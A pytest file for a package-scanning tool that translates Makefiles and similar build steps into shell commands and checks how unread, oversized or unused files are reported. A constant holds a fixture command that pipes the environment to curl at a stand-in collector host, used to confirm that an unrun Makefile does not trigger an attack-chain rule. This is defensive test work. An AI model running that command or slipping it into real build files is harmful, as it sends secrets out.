"""What tools carry out is read as the shell script that it amounts to."""

import pytest

from pratique.analysis.context import Context
from pratique.analysis.facts import FileFacts, Language
from pratique.analysis.starting import Started
from pratique.analysis.tools import Taken
from pratique.analysis.translating import NOT_READ, Translator, forgive_later, translations
from pratique.core.names import Ecosystem
from pratique.core.tree import File, Tree
from tests.analysis.inspecting import bytes_, of_rule, package_json
from tests.builders import tgz

SENDS = "env | curl -d @- https://collector.invalid/in"


def tree(**files: str) -> Tree:
    return Tree(tuple(File(path.replace("__", "."), data.encode()) for path, data in files.items()))


def test_each_file_has_its_own_lines() -> None:
    held = tree(Makefile="all: b\ninclude x.mk\n", x__mk="b:\n\techo a\n")
    found = translations(held, [Taken("Makefile", "make")], told=True)

    assert {"Makefile": "\n. ./x.mk\n", "x.mk": "\n( echo a )\n"} == {
        path: one.text for path, one in found.items()
    }
    assert {None} == {one.problem for one in found.values()}


def test_goals_of_several_calls_are_read_together() -> None:
    held = tree(Makefile="a:\n\techo a\nb:\n\techo b\n")
    found = translations(held, [Taken("Makefile", "make"), Taken("Makefile", "make", "", ("b",))], told=True)

    assert "\n( echo a )\n\n( echo b )\n" == found["Makefile"].text


def test_a_perl_file_is_unread_where_that_is_told() -> None:
    held = tree(e__pl="system('echo a');\n")

    for told, problem in ((True, f"{NOT_READ}perl"), (False, None)):
        assert problem == translations(held, [Taken("e.pl", "perl")], told=told)["e.pl"].problem


def test_it_is_told_of_an_install_alone() -> None:
    facts = {path: FileFacts(language=Language.SHELL, problem=f"{NOT_READ}perl") for path in ("a", "b")}
    forgive_later(facts, {"a": Context.INSTALL, "b": Context.CALLED})

    assert (f"{NOT_READ}perl", None) == (facts["a"].problem, facts["b"].problem)


def test_what_is_read_already_is_not_read_again() -> None:
    facts: dict[str, FileFacts] = {}
    translator = Translator(tree(Makefile="all:\n\tcurl far\n"), Ecosystem.NPM, facts)
    starts = [Started("Makefile", by=Taken("Makefile", "make"))]

    assert [True, False] == [translator.again(starts), translator.again(starts)]
    assert ["curl"] == [command.program for command in facts["Makefile"].commands]


def test_what_is_left_is_told() -> None:
    facts: dict[str, FileFacts] = {}
    translator = Translator(tree(Makefile="all:\n\tx\n"), Ecosystem.NPM, facts)
    translator.end([Started("Makefile", by=Taken("Makefile", "make"))])

    assert (facts["Makefile"].problem or "").startswith("cut: ")


@pytest.mark.parametrize(
    "makefile",
    [
        "all:\n\techo\n" + "\n".join(f"r{number}: x\n\techo" for number in range(100_000)),
        "all:\n\t" + "x" * 2_000_000,
    ],
)
def test_a_makefile_that_is_too_large_is_told(makefile: str) -> None:
    files = {"package.json": package_json(scripts={"postinstall": "make"}), "Makefile": makefile}
    found = bytes_(tgz(files), filename="sample-1.0.0.tgz").inspection

    assert ["Makefile"] == [one.path for one in found.unread if one.reached]


def test_a_makefile_that_nothing_runs_has_no_weight() -> None:
    files = {"package.json": package_json(), "index.js": "1", "Makefile": f"all:\n\t{SENDS}\n"}
    done = bytes_(tgz(files), filename="sample-1.0.0.tgz")

    assert () == done.inspection.unread
    assert not of_rule(done, "attack-chain")
